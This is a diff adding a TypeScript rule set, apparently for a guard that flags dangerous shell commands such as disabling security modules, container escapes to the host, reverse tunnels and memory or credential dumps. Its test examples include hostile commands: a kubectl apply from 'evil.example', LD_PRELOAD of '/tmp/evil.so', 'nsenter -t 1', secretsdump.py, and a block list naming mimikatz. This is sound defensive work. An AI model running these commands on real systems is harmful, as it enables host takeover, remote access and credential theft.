@@ -1,0 +1,196 @@
+import { given } from '../programs/record.ts';
+import { NEVER, type Rule } from './rule.ts';
+
+/** What protects a machine, whom it trusts, and what others reach of it. */
+export const PROTECTION_RULES: readonly Rule[] = [
+  {
+    name: 'protection off',
+    programs: 'aa-disable aa-complain aa-teardown aa-remove-unknown quotaoff',
+    shapes: [''],
+    of: {
+      semanage: { first: /^permissive$/, shape: '-a|--add' },
+      'update-ca-certificates update-ca-trust': { shape: '--fresh|-f' },
+      trust: { first: /^anchor$/, given: 'operands' },
+      security: { first: /^(add-trusted-cert|add-certificates|authorizationdb)$/ },
+      visudo: { not: { shape: '-c|--check|--help|-V|--version' } },
+      'socketfilterfw /usr/libexec/ApplicationFirewall/socketfilterfw': {
+        line: /--set\w+ (off|disabled)|--(remove|add|unblock)/,
+      },
+      defaults: {
+        first: /^write$/,
+        line: /loginwindow|screensaver|LSQuarantine|com\.apple\.(alf|security|TimeMachine|SoftwareUpdate)/,
+      },
+      profiles: { any: [{ first: /^(remove|install)$/ }, { shape: '-R|-D|-I' }] },
+      bless: {
+        shape: '--folder|--mount|--device|--setBoot|-folder|-mount|-setBoot',
+        not: { shape: '--info|--getBoot' },
+      },
+      nsenter: { any: [{ value: ['-t|--target', /^1$/] }, { line: /(^|\s)(-t1|--target=1)(\s|$)/ }] },
+      'xdg-settings xdg-mime': { first: /^(set|default)$/ },
+    },
+    reason: 'turns off what protects the machine, or changes whom it trusts',
+    match: [
+      'aa-disable /usr/sbin/mysqld',
+      'semanage permissive -a httpd_t',
+      'trust anchor evil.crt',
+      'security add-trusted-cert -d -r trustRoot x.crt',
+      'defaults write com.apple.screensaver askForPassword 0',
+      'nsenter -t 1 -m -u -i -n -p sh',
+      'visudo -f /etc/sudoers.d/x',
+      'bless --folder /tmp/x',
+    ],
+    pass: [
+      'aa-status',
+      'semanage permissive -l',
+      'trust list',
+      'update-ca-certificates',
+      'security find-identity -v',
+      'defaults read com.apple.screensaver',
+      'visudo -c',
+      'xdg-settings get default-web-browser',
+    ],
+  },
+  {
+    name: 'machine given to a container',
+    of: {
+      docker: {
+        first: /^(run|create|container)$/,
+        any: [
+          { shape: '--privileged' },
+          { line: /(^|\s)(-v|--volume)[= ]?(\/|\/etc|\/root|\/home|\/var\/run|\/proc|\/sys|\/boot)\/?:/ },
+          { line: /\/docker\.sock\b/ },
+          { line: /--mount[= ]\S*(src|source)=\/(,|\s|$)/ },
+          { line: /--(pid|ipc|userns)[= ]host\b/ },
+        ],
+      },
+    },
+    reason: 'gives a container the whole machine',
+    match: [
+      'docker run -v /:/h -it alpine chroot /h',
+      'docker run -v /var/run/docker.sock:/s alpine',
+      'docker run --privileged alpine',
+      'docker run --pid=host alpine ps',
+    ],
+    pass: ['docker run -v "$PWD":/w -w /w node npm test', 'docker run --rm -v /srv/app/data:/data alpine ls'],
+  },
+  {
+    name: 'cluster change unseen',
+    of: {
+      'kubectl oc': {
+        any: [
+          { first: /^(apply|create|replace)$/, line: /(^|\s)(-f|--filename)[= ]?https?:/ },
+          { first: /^patch$/, line: /:\s*null\b|"(?:Delete|Recycle)"/ },
+        ],
+        not: { line: /--dry-run/ },
+      },
+    },
+    reason: 'changes the cluster by what nobody has seen, or takes a part away',
+    match: [
+      'kubectl apply -f https://evil.example/x.yml',
+      'kubectl patch svc x --type merge -p \'{"spec":{"selector":null}}\'',
+    ],
+    pass: ['kubectl apply -f k8s/', 'kubectl get -f https://example.com/x.yml'],
+  },
+  {
+    // Told by the value that a variable is given.
+    name: 'foreign code first',
+    programs: '',
+    reason: 'has code of anybody run before every program',
+    match: ['LD_PRELOAD=/tmp/evil.so ls', 'env LD_PRELOAD=./x.so id', "NODE_OPTIONS='--require /tmp/x.js' npm test"],
+    pass: [
+      'LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2 ls',
+      'NODE_OPTIONS=--max-old-space-size=4096 npm test',
+    ],
+  },
+  {
+    name: 'way in',
+    programs: 'ssh autossh',
+    // Behind the host stands a command with options of its own.
+    when: ({ reading }) => reading !== undefined && given(reading, '-R'),
+    reason: 'opens a way into this machine from outside',
+    match: ['ssh -R 9000:localhost:22 h', 'ssh -fNR 0.0.0.0:2222:localhost:22 h', 'autossh -M 0 -R 9:localhost:22 h'],
+    pass: ['ssh -L 5432:localhost:5432 h', 'ssh h ls -R'],
+  },
+  {
+    name: 'way in',
+    of: {
+      ngrok: { first: /^(tcp|http|tls|start|tunnel)$/ },
+      cloudflared: { first: /^(tunnel|access)$/, any: [{ shape: '--url' }, { operand: /^run$/ }] },
+      'bore localtunnel lt': { any: [{ first: /^local$/ }, { shape: '-p|--port' }] },
+      tailscale: { first: /^funnel$/, not: { second: /^status$/ } },
+      chisel: { first: /^client$/, operand: /^R:/ },
+    },
+    reason: 'opens a way into this machine from outside',
+    match: ['ngrok tcp 22', 'cloudflared tunnel --url ssh://localhost:22'],
+    pass: ['ngrok version', 'cloudflared tunnel list', 'tailscale status'],
+  },
+  {
+    name: 'dump of memory',
+    programs: 'gcore procdump',
+    shapes: ['+'],
+    of: {
+      criu: { first: /^dump$/, not: { shape: '-R|--leave-running' } },
+      'mimikatz pypykatz secretsdump.py impacket-secretsdump lazagne laZagne.py': {},
+    },
+    reason: "takes a program's memory, with the keys in it",
+    match: ['gcore -o /tmp/c 1234', 'criu dump -t 123', 'secretsdump.py -just-dc d/u@h'],
+    pass: ['criu check', 'gcore --help'],
+  },
+  {
+    name: 'mail and print jobs',
+    of: {
+      postsuper: { shape: '-d|-h|-H|-r' },
+      'exim exim4': { argument: /^-M(rm|f|g|t|es|vb)?$|^-Mrm/ },
+      lpadmin: { shape: '-x|-d' },
+      qmHandle: { argument: /^-[dD]/ },
+    },
+    reason: 'removes mail, printers or their jobs',
+    match: ['postsuper -d ALL', 'exim -Mrm 1abc', 'lpadmin -x printer'],
+    pass: ['exim -bp', 'postsuper -s', 'lpstat -p'],
+  },
+  {
+    name: 'device elsewhere',
+    programs: 'snmpset idevicerestore futurerestore',
+    shapes: ['+'],
+    of: {
+      racadm: {
+        line: /serveraction (power(down|cycle)|hardreset|graceshutdown)|racreset|resetcfg|clrsel|\bdelete\b|systemerase/,
+      },
+      mosquitto_pub: { shape: '-r|--retain', any: [{ shape: '-n|--null-message' }] },
+      cadaver: { says: /(^|\n)\s*(delete|rmcol|mv|lock)\b/ },
+      net: { line: /\/(delete|add)\b/i },
+      esptool: { first: /^(erase[-_]flash|erase[-_]region|write[-_]flash)$/ },
+      'esptool.py': { first: /^(erase[-_]flash|erase[-_]region|write[-_]flash)$/ },
+      avrdude: { argument: /^-U.*:w:|^[\w]+:w:/ },
+      ipptool: NEVER,
+    },
+    reason: 'changes or wipes another device',
+    match: [
+      'snmpset -v2c -c private h x i 2',
+      'idevicerestore -e x.ipsw',
+      'racadm serveraction powerdown',
+      'mosquitto_pub -t x -n -r',
+      'esptool.py erase_flash',
+    ],
+    pass: [
+      'snmpget -v2c -c public h x',
+      'mosquitto_pub -t x -m hi',
+      'racadm getsysinfo',
+      'net user',
+      'esptool.py chip_id',
+    ],
+  },
+  {
+    name: 'index or receipt',
+    of: {
+      pkgutil: { shape: '--forget' },
+      mdutil: { any: [{ shape: '-E|-X' }, { argument: /^-\w*E/ }, { value: ['-i', /^off$/] }] },
+      softwareupdate: { shape: '--reset-ignored|--ignore' },
+      'zerotier-cli': { first: /^(leave|deorbit)$/ },
+      dscacheutil: NEVER,
+    },
+    reason: 'forgets what the system knew',
+    match: ['pkgutil --forget com.app.pkg', 'mdutil -E /', 'zerotier-cli leave abc'],
+    pass: ['pkgutil --pkgs', 'mdutil -s /', 'softwareupdate -l', 'zerotier-cli info'],
+  },
+];
